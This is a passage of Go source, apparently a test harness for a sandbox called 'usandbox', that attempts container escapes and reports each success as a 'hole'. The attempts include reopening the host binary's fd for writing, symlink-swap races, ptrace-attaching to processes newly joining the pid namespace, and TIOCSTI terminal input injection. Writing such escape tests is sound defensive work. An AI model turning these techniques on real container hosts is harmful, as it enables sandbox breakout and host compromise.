	// runs the usandbox binary for a moment) and hold their exe; once
	// the binary no longer runs, a held fd may be reopened for writing.
	deadline := time.Now().Add(hold)
	tried := map[int]bool{}
	for k := 0; time.Now().Before(deadline); k++ {
		for _, pid := range pidList("all") {
			if !tried[pid] {
				tried[pid] = true
				try(fmt.Sprintf("/proc/%d/exe", pid))
			}
			// A process may become reachable later (an init that
			// re-executes itself): look at its fds again now and then.
			if marker != "" && k%20 == 0 {
				fdwalk(pid, marker, seen, hole)
			}
		}
		for _, f := range held {
			if w, err := os.OpenFile(fmt.Sprintf("/proc/self/fd/%d", f.Fd()), os.O_WRONLY, 0); err == nil {
				w.Close()
				hole("reopened a held fd of the host's usandbox binary for writing after its process ended")
				return
			}
		}
		time.Sleep(time.Millisecond)
	}
}

// swaprace fills DIR with directories of files, then, until killed, swaps
// each for a relative symlink to TARGET and back.
func swaprace(dir, target string, n int) {
	for i := 0; i < n; i++ {
		d := filepath.Join(dir, fmt.Sprintf("d%02d", i))
		os.MkdirAll(filepath.Join(d, "sub"), 0o755)
		for j := 0; j < 200; j++ {
			os.WriteFile(filepath.Join(d, fmt.Sprintf("f%03d", j)), nil, 0o644)
			os.WriteFile(filepath.Join(d, "sub", fmt.Sprintf("f%03d", j)), nil, 0o644)
		}
	}
	fmt.Println("READY")
	os.Stdout.Sync()
	for k := 0; ; k++ {
		i := k % n
		d := filepath.Join(dir, fmt.Sprintf("d%02d", i))
		sub := filepath.Join(d, "sub")
		// Swap the directory and its subdirectory for symlinks: the
		// remover may be between lstat and opendir of either.
		os.Rename(sub, sub+".x")
		os.Symlink(strings.Repeat("../", 1)+target, sub)
		os.Rename(d, d+".x")
		os.Symlink(target, d)
		os.Remove(d)
		os.Rename(d+".x", d)
		os.Remove(sub)
		os.Rename(sub+".x", sub)
	}
}

// swaploop swaps DIR (a directory) for symlinks to each target in turn,
// for at most dur.
func swaploop(dir string, targets []string, dur time.Duration) {
	os.MkdirAll(dir, 0o755)
	fmt.Println("READY")
	deadline := time.Now().Add(dur)
	for k := 0; time.Now().Before(deadline); k++ {
		t := targets[k%len(targets)]
		os.Rename(dir, dir+".x")
		os.Symlink(t, dir)
		time.Sleep(time.Duration(k%3) * 100 * time.Microsecond)
		os.Remove(dir)
		os.Rename(dir+".x", dir)
	}
}

// rocheck: every mount below UNDER must be read-only, the read-only
// volume (found by its marker file) must refuse writes, and /proc must
// not have become read-only or covered.
func rocheck(under, marker string, hole func(string, ...any)) {
	b, err := os.ReadFile("/proc/self/mountinfo")
	if err != nil {
		hole("reading mountinfo: %v", err)
		return
	}
	for _, l := range strings.Split(string(b), "\n") {
		f := strings.Fields(l)
		if len(f) < 6 {
			continue
		}
		mp, opts := f[4], f[5]
		ro := strings.Contains(","+opts+",", ",ro,")
		if strings.HasPrefix(mp, under+"/") && !ro {
			hole("mount at %s is writable (%s)", mp, opts)
		}
		if mp == "/proc" && ro {
			hole("/proc became read-only")
		}
		if strings.HasPrefix(mp, "/proc/") && !strings.HasPrefix(mp, "/proc/sys") && !strings.HasPrefix(mp, "/proc/bus") &&
			!strings.HasPrefix(mp, "/proc/fs") && !strings.HasPrefix(mp, "/proc/irq") && !strings.HasPrefix(mp, "/proc/sysrq-trigger") &&
			f[3] != "/null" && !isMasked(mp) {
			hole("unexpected mount on %s (root %s)", mp, f[3])
		}
	}
	// Find the read-only volume's contents wherever they are.
	matches, _ := filepath.Glob(filepath.Join(under, "*", marker))
	m2, _ := filepath.Glob(filepath.Join(under, marker))
	for _, m := range append(matches, m2...) {
		// fd-relative: the directory that holds the marker now, not
		// whatever a racing swap has put at its path since the glob
		// (that one is a writable directory of the shared volume).
		dir, err := unix.Open(filepath.Dir(m), unix.O_DIRECTORY|unix.O_RDONLY|unix.O_CLOEXEC, 0)
		if err != nil {
			continue
		}
		var st unix.Stat_t
		if unix.Fstatat(dir, marker, &st, unix.AT_SYMLINK_NOFOLLOW) != nil {
			unix.Close(dir)
			continue // swapped away meanwhile
		}
		name := fmt.Sprintf("written-%d", os.Getpid())
		if fd, err := unix.Openat(dir, name, unix.O_CREAT|unix.O_WRONLY|unix.O_CLOEXEC|unix.O_NOFOLLOW, 0o644); err == nil {
			unix.Close(fd)
			hole("wrote %s next to the read-only volume's marker", filepath.Join(filepath.Dir(m), name))
		}
		unix.Close(dir)
	}
}

func isMasked(mp string) bool {
	for _, p := range []string{"/proc/asound", "/proc/acpi", "/proc/interrupts", "/proc/kcore", "/proc/keys",
		"/proc/latency_stats", "/proc/timer_list", "/proc/timer_stats", "/proc/sched_debug", "/proc/scsi"} {
		if mp == p {
			return true
		}
	}
	return false
}

// ttycheck prints "FD N tty=BOOL rdev=MAJ:MIN kind=KIND file=DEV:INO"
// for fds 0-2. Two devpts instances number their ptys alike (rdev), so
// only the file (device of the filesystem and inode) tells one from the
// other.
func ttycheck(outFile string) {
	var lines []string
	for fd := 0; fd <= 2; fd++ {
		var st unix.Stat_t
		if err := unix.Fstat(fd, &st); err != nil {
			lines = append(lines, fmt.Sprintf("FD %d closed", fd))
			continue
		}
		_, terr := unix.IoctlGetTermios(fd, unix.TCGETS)
		kind := "other"
		switch st.Mode & unix.S_IFMT {
		case unix.S_IFIFO:
			kind = "pipe"
		case unix.S_IFCHR:
			kind = "chr"
		case unix.S_IFSOCK:
			kind = "socket"
		case unix.S_IFREG:
			kind = "file"
		}
		lines = append(lines, fmt.Sprintf("FD %d tty=%v rdev=%d:%d kind=%s file=%d:%d", fd, terr == nil, unix.Major(st.Rdev), unix.Minor(st.Rdev), kind, st.Dev, st.Ino))
	}
	sort.Strings(lines)
	out := strings.Join(lines, "\n") + "\n"
	if outFile != "" {
		os.WriteFile(outFile, []byte(out), 0o644)
		return
	}
	fmt.Print(out)
}

// ttyread reads whatever arrives on fds 0-2 and /dev/tty for dur and
// writes it to OUT.
func ttyread(out string, dur time.Duration) {
	got := make(chan string, 16)
	read := func(name string, fd int) {
		buf := make([]byte, 256)
		for {
			n, err := unix.Read(fd, buf)
			if n > 0 {
				got <- fmt.Sprintf("READ %s %q\n", name, buf[:n])
			}
			if err != nil && !errors.Is(err, unix.EINTR) && !errors.Is(err, unix.EAGAIN) || n == 0 && err == nil {
				return
			}
		}
	}
	for fd := 0; fd <= 2; fd++ {
		if d, err := unix.Dup(fd); err == nil {
			go read("fd"+strconv.Itoa(fd), d)
		}
	}
	if fd, err := unix.Open("/dev/tty", unix.O_RDONLY, 0); err == nil {
		go read("/dev/tty", fd)
	}
	os.WriteFile(out, []byte("STARTED\n"), 0o644)
	deadline := time.After(dur)
	var all strings.Builder
	all.WriteString("STARTED\n")
	for {
		select {
		case s := <-got:
			all.WriteString(s)
			os.WriteFile(out, []byte(all.String()), 0o644)
		case <-deadline:
			all.WriteString("DONE\n")
			os.WriteFile(out, []byte(all.String()), 0o644)
			return
		}
	}
}

// spawnrace waits for processes that appear in this pid namespace (the
// next pids, ns_last_pid on) and attaches to each with ptrace from its
// first instant: a runtime's process that joins this pid namespace must
// be out of reach (not dumpable) from its first instruction on. For each
// one caught it reports what it reached: its root, cwd and fds leading to
// the host (the marker), and whether ptrace stopped it. It returns how
// many new processes it saw.
func spawnrace(marker string, dur time.Duration, ready string, hole func(string, ...any)) int {
	runtime.LockOSThread()
	self := os.Getpid()
	lastPid := func() int {
		b, err := os.ReadFile("/proc/sys/kernel/ns_last_pid")
		if err != nil {
			return -1
		}
		n, _ := strconv.Atoi(strings.TrimSpace(string(b)))
		return n
	}
	if ready != "" {
		os.WriteFile(ready, nil, 0o644)
	}
	seen := 0
	reported := map[string]bool{}
	deadline := time.Now().Add(dur)
	// Spin on the next pid: attaching to a pid not yet taken fails at
	// once (ESRCH), so the attach lands as soon as the process exists,
	// before it runs its first instruction.
	next := lastPid() + 1
	for spins := 0; ; spins++ {
		if spins%4096 == 0 {
			if time.Now().After(deadline) {
				break
			}
			if last := lastPid(); last >= next {
				next = last + 1
			}
		}
		cand := next
		if cand == self {
			next++
			continue
		}
		err := unix.PtraceAttach(cand)
		if errors.Is(err, unix.ESRCH) {
			continue
		}
		next++
		seen++
		if err != nil {
			continue
		}
		var ws unix.WaitStatus
		unix.Wait4(cand, &ws, unix.WALL, nil)
		comm, _ := os.ReadFile(fmt.Sprintf("/proc/%d/comm", cand))
		c := strings.TrimSpace(string(comm))
		if ppid(cand) == self {
			unix.PtraceDetach(cand)
			continue
		}
		if !reported["attach"+c] {
			reported["attach"+c] = true
			hole("PTRACE_ATTACH pid=%d (%s, a process that just joined this pid namespace) succeeded", cand, c)
		}
		for _, l := range []string{"root", "cwd"} {
			p := fmt.Sprintf("/proc/%d/%s", cand, l)
			fd, err := unix.Open(p, unix.O_PATH|unix.O_DIRECTORY|unix.O_CLOEXEC, 0)
			if err != nil {
				continue
			}
			if reachesHost(fd, marker) && !reported[l] {
				reported[l] = true
				t, _ := os.Readlink(p)
				hole("%s of a newly attached process (%s) -> %s reaches the host (%s)", p, c, t, marker)
			}
			unix.Close(fd)
		}
		if ents, err := os.ReadDir(fmt.Sprintf("/proc/%d/fd", cand)); err == nil {
			for _, e := range ents {
				p := fmt.Sprintf("/proc/%d/fd/%s", cand, e.Name())
				t, _ := os.Readlink(p)
				if !reported["fd"+t] {
					reported["fd"+t] = true
					hole("fd %s of a newly attached process (%s) -> %s", p, c, t)
				}
			}
		}
		unix.PtraceDetach(cand)
	}
	return seen
}

// tiocsti tries to push a character into the input of the terminal on
// fds 0-2 (TIOCSTI: what the caller would read next as typed), directly
// and after trying to make that terminal its controlling one.
func tiocsti(hole func(string, ...any)) {
	c := byte(' ')
	for fd := 0; fd <= 2; fd++ {
		if _, err := unix.IoctlGetTermios(fd, unix.TCGETS); err != nil {
			fmt.Printf("INFO fd %d is no terminal\n", fd)
			continue
		}
		if _, _, e := unix.Syscall(unix.SYS_IOCTL, uintptr(fd), unix.TIOCSTI, uintptr(unsafe.Pointer(&c))); e == 0 {
			hole("TIOCSTI on fd %d (a terminal) pushed input", fd)
		} else {
			fmt.Printf("INFO TIOCSTI fd %d: %v\n", fd, e)
		}
		for _, steal := range []uintptr{0, 1} {
			if _, _, e := unix.Syscall(unix.SYS_IOCTL, uintptr(fd), unix.TIOCSCTTY, steal); e == 0 {
				hole("TIOCSCTTY(%d) on fd %d made the terminal ours", steal, fd)
				if _, _, e := unix.Syscall(unix.SYS_IOCTL, uintptr(fd), unix.TIOCSTI, uintptr(unsafe.Pointer(&c))); e == 0 {
					hole("TIOCSTI on fd %d after TIOCSCTTY pushed input", fd)
				}
			} else {
				fmt.Printf("INFO TIOCSCTTY(%d) fd %d: %v\n", steal, fd, e)
			}
		}
	}
}

func subreap(argv []string) int {
	if len(argv) == 0 {
		fmt.Fprintln(os.Stderr, "subreap: no command")
		return 2
	}
	if err := unix.Prctl(unix.PR_SET_CHILD_SUBREAPER, 1, 0, 0, 0); err != nil {
		fmt.Fprintln(os.Stderr, "subreap:", err)
		return 2
	}
	path, err := execLookPath(argv[0])
	if err != nil {
		fmt.Fprintln(os.Stderr, "subreap:", err)
		return 127
	}
	pid, err := syscall.ForkExec(path, argv, &syscall.ProcAttr{Env: os.Environ(), Files: []uintptr{0, 1, 2}})
	if err != nil {
		fmt.Fprintln(os.Stderr, "subreap:", err)
		return 126
	}
	for {
		var ws unix.WaitStatus
		p, err := unix.Wait4(-1, &ws, 0, nil)
		if errors.Is(err, unix.EINTR) {
			continue
		}
		if err != nil {
			return 125
		}
		if p == pid {
			if ws.Signaled() {
				return 128 + int(ws.Signal())
			}
			return ws.ExitStatus()
		}
	}
}

// spawnRequest is one command for spawner, a JSON message on a
// connection of its socket whose SCM_RIGHTS carry the command's stdin,
// stdout and stderr, then one fd for each of FDs (the number it gets in
// the command). The answer is the command's wait status, as a decimal
// line, once it has exited.
type spawnRequest struct {
	Argv []string `json:"argv"`
	Env  []string `json:"env"`
	Dir  string   `json:"dir"`
	FDs  []int    `json:"fds"`
	// Ctty makes the command a session leader whose controlling
	// terminal is its stdin.
	Ctty bool `json:"ctty"`
}

func spawner(args []string) int {
	if len(args) != 1 {
		fmt.Fprintln(os.Stderr, "spawner: give the socket's path")
		return 2
	}
	if err := unix.Prctl(unix.PR_SET_CHILD_SUBREAPER, 1, 0, 0, 0); err != nil {
		fmt.Fprintln(os.Stderr, "spawner:", err)
		return 2
	}
	l, err := net.ListenUnix("unix", &net.UnixAddr{Name: args[0], Net: "unix"})
	if err != nil {
		fmt.Fprintln(os.Stderr, "spawner:", err)
		return 2
	}
	type started struct {
		pid  int
		conn *net.UnixConn
	}
	startedc := make(chan started)
	// Reaping happens on one goroutine; the others only start commands.
	go func() {
		for {
			c, err := l.AcceptUnix()
			if err != nil {
				os.Exit(0)
			}
			go func() {
				pid, err := spawnOne(c)
				if err != nil {
					fmt.Fprintf(c, "error %v\n", err)
					c.Close()
					return
				}
				startedc <- started{pid, c}
			}()
		}
	}()
	waiting := map[int]*net.UnixConn{}
	exited := map[int]unix.WaitStatus{}
	sigc := make(chan os.Signal, 16)
	signal.Notify(sigc, syscall.SIGCHLD)
	for {
		select {
		case s := <-startedc:
			if ws, ok := exited[s.pid]; ok {
				delete(exited, s.pid)
				fmt.Fprintf(s.conn, "%d\n", int(ws))
				s.conn.Close()
			} else {
				waiting[s.pid] = s.conn
			}
		case <-sigc:
		case <-time.After(50 * time.Millisecond):
		}
		for {
			var ws unix.WaitStatus
			pid, err := unix.Wait4(-1, &ws, unix.WNOHANG, nil)
			if pid <= 0 || err != nil {
				break
			}
			if c, ok := waiting[pid]; ok {
				delete(waiting, pid)
				fmt.Fprintf(c, "%d\n", int(ws))
				c.Close()
			} else {
				// Perhaps a command whose start is not recorded yet;
				// an orphan's status is never asked for.
				exited[pid] = ws
			}
		}
	}
}

func spawnOne(c *net.UnixConn) (int, error) {
	buf := make([]byte, 1<<16)
	oob := make([]byte, unix.CmsgSpace(64*4))
	n, oobn, _, _, err := c.ReadMsgUnix(buf, oob)
	if err != nil {
		return 0, err
	}
	var req spawnRequest
	if err := json.Unmarshal(buf[:n], &req); err != nil {
		return 0, err
	}
	var fds []int
	msgs, err := unix.ParseSocketControlMessage(oob[:oobn])
	if err != nil {
		return 0, err
	}
	for _, m := range msgs {
		if rights, err := unix.ParseUnixRights(&m); err == nil {
			fds = append(fds, rights...)
		}
	}
	defer func() {
		for _, fd := range fds {
			unix.Close(fd)
		}
	}()
	if len(fds) != 3+len(req.FDs) || len(req.Argv) == 0 {
		return 0, fmt.Errorf("want argv and %d fds, got %d", 3+len(req.FDs), len(fds))
	}
	files := []uintptr{uintptr(fds[0]), uintptr(fds[1]), uintptr(fds[2])}
	for i, target := range req.FDs {
		for len(files) <= target {
			files = append(files, ^uintptr(0))
		}
		files[target] = uintptr(fds[3+i])
	}
	path, err := execLookPath(req.Argv[0])
	if err != nil {
		return 0, err
	}
	attr := &syscall.ProcAttr{Dir: req.Dir, Env: req.Env, Files: files}
	if req.Ctty {
		attr.Sys = &syscall.SysProcAttr{Setsid: true, Setctty: true, Ctty: 0}
	}
	return syscall.ForkExec(path, req.Argv, attr)
}
